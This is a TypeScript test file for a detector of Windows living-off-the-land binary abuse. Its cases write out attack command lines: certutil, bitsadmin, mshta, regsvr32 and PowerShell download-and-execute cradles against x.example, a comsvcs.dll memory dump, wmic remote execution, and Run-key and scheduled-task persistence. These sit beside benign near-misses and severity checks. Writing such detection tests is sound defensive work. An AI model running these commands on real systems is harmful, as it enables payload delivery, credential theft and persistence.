import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { lolbinDetector } from "./lolbin-abuse.js";
import { EventFactory, guid, hitsOn } from "./process-events.test.support.js";

const S32 = "C:\\Windows\\System32\\";

describe("LOLBin abuse detector", () => {
  const key = guid(0x10);
  const run = (image: string, cmd: string, connectTo?: string) => {
    const ev = new EventFactory();
    return hitsOn(
      lolbinDetector,
      [
        ev.start(0, key, image, undefined, { CommandLine: cmd }),
        ...(connectTo ? [ev.connect(1, key, connectTo, 443)] : []),
      ],
      key,
    );
  };
  // image, command line, connection, expected rule (undefined = no hit)
  const cases: [string, string, string | undefined, string | undefined][] = [
    [
      "rundll32.exe",
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
      undefined,
      "rundll32",
    ],
    ["rundll32.exe", "rundll32 C:\\Users\\a\\AppData\\Local\\Temp\\x.dll,Start", undefined, "rundll32"],
    ["rundll32.exe", "rundll32.exe zipfldr.dll,RouteTheCall calc.exe", undefined, "rundll32"],
    [
      "rundll32.exe",
      "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
      undefined,
      "rundll32",
    ],
    ["rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", "203.0.113.5", "rundll32"],
    ["regsvr32.exe", "regsvr32 /s /u /i:https://x.example/a.sct scrobj.dll", undefined, "regsvr32"],
    ["mshta.exe", "mshta.exe https://x.example/a.hta", undefined, "mshta"],
    ["certutil.exe", "certutil -urlcache -split -f https://x.example/a.exe a.exe", undefined, "certutil"],
    ["certutil.exe", "certutil -decode a.b64 a.exe", undefined, "certutil"],
    ["bitsadmin.exe", "bitsadmin /transfer j https://x.example/a.exe C:\\a.exe", undefined, "bitsadmin"],
    ["msiexec.exe", "msiexec /q /i http://x.example/a.msi", undefined, "msiexec"],
    ["wmic.exe", "wmic /node:10.0.0.5 process call create cmd.exe", undefined, "wmic"],
    [
      "WindowsPowerShell\\v1.0\\powershell.exe",
      `powershell -nop -w hidden -enc ${"A".repeat(40)}`,
      undefined,
      "powershell",
    ],
    [
      "WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
      undefined,
      "powershell",
    ],
    ["wscript.exe", "wscript C:\\Users\\a\\Downloads\\invoice.js", undefined, "script-host"],
    [
      "schtasks.exe",
      'schtasks /create /tn x /tr "C:\\Users\\a\\AppData\\Roaming\\x.exe"',
      undefined,
      "schtasks",
    ],
    [
      "reg.exe",
      'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x /d y',
      undefined,
      "reg-run-key",
    ],
    // misses
    ["rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", undefined, undefined],
    ["rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", "10.0.0.5", undefined],
    ["certutil.exe", "certutil -hashfile a.exe SHA256", undefined, undefined],
    ["msiexec.exe", "msiexec /i C:\\Installers\\app.msi", undefined, undefined],
    [
      "WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell -File C:\\Scripts\\backup.ps1",
      undefined,
      undefined,
    ],
    ["WindowsPowerShell\\v1.0\\powershell.exe", "powershell Get-Process", "203.0.113.5", undefined],
    ["schtasks.exe", "schtasks /query", undefined, undefined],
    ["notepad.exe", "notepad https://x.example", undefined, undefined],
  ];
  for (const [image, cmd, net, want] of cases)
    it(`${image.split("\\").pop()}: ${cmd.slice(0, 60)}${net ? ` + ${net}` : ""}`, () => {
      const hits = run(S32 + image, cmd, net);
      assert.equal(hits[0]?.details.rule, want);
    });

  it("a command-line hit is high, a network-only hit medium and cites the connection", () => {
    const [cmd] = run(`${S32}mshta.exe`, "mshta https://x.example/a.hta");
    assert.equal(cmd.severity, "high");
    assert.deepEqual(cmd.attack, ["T1218.005"]);
    const [net] = run(`${S32}rundll32.exe`, "rundll32.exe shell32.dll,Control_RunDLL", "203.0.113.5");
    assert.equal(net.severity, "medium");
    assert.equal(net.evidence.length, 2);
    assert.match(net.message.en, /203\.0\.113\.5:443/);
  });
});
